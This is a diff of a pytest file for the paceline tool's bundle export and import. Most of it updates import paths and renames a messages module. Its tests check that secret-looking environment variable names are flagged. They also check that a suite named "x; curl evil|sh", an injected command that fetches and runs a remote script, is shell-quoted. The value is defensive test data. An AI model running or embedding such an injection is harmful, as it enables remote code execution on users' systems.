@@ -8,20 +8,20 @@ from pathlib import Path
 import msgspec
 import pytest
 
-from paceline.bundles import telling
+from paceline.analysis.rows.table_rows import table_rows
+from paceline.bundles import messages
 from paceline.bundles.reading import import_bundle
 from paceline.bundles.selecting import Choice
 from paceline.bundles.writing import export_bundle
-from paceline.errors import UserError
-from paceline.metrics import table_rows
-from paceline.report.render import text
-from paceline.store import Store
-from paceline.timing.command import ExternalCommand, Metric
-from paceline.timing.usage import CommandUsage
-from paceline.web.report_file import write_report
+from paceline.plan.external.command import ExternalCommand, Metric
+from paceline.report.page.report_file import write_report
+from paceline.report.tables.render import text
+from paceline.store.index.command_usage import CommandUsage
+from paceline.store.store import Store
+from paceline.system.errors import UserError
 from tests.bundles.made import ALL, FIRST, elsewhere, of_machine, save
-from tests.made_machines import machine
-from tests.made_runs import CELL, OK, save_plan
+from tests.factories.machines import machine
+from tests.factories.runs import CELL, OK, save_plan
 
 
 @pytest.mark.parametrize("name", ["TF_TOKEN_x", "KERAS_AUTH", "TF_ACCESS_KEY_ID", "MXNET_PWD", "TF_VAR_x"])
@@ -91,7 +91,7 @@ def test_argument_that_may_be_a_secret_is_named(tmp_path: Path, words: tuple[str
     timed(store, ExternalCommand(arguments=words, folder="/home/me"))
     written = export_bundle(store, Choice(), path)
     assert written.doubtful == (doubtful,)
-    assert f"A command in it has {doubtful}: whoever gets" in telling.written(written, path)
+    assert f"A command in it has {doubtful}: whoever gets" in messages.written(written, path)
 
 
 def test_report_names_what_a_bundle_names(tmp_path: Path) -> None:
@@ -118,5 +118,5 @@ def test_name_of_a_suite_is_no_command_of_its_own(tmp_path: Path) -> None:
     save_plan(source, {CELL: ["one"]}, suite="x; curl evil|sh")
     save(source, of_machine(FIRST, "one", elsewhere()))
     export_bundle(source, ALL, path)
-    said = telling.taken(import_bundle(path, Store(tmp_path / "target")), path)
+    said = messages.taken(import_bundle(path, Store(tmp_path / "target")), path)
     assert said.splitlines()[-1] == "paceline show --suite 'x; curl evil|sh'"
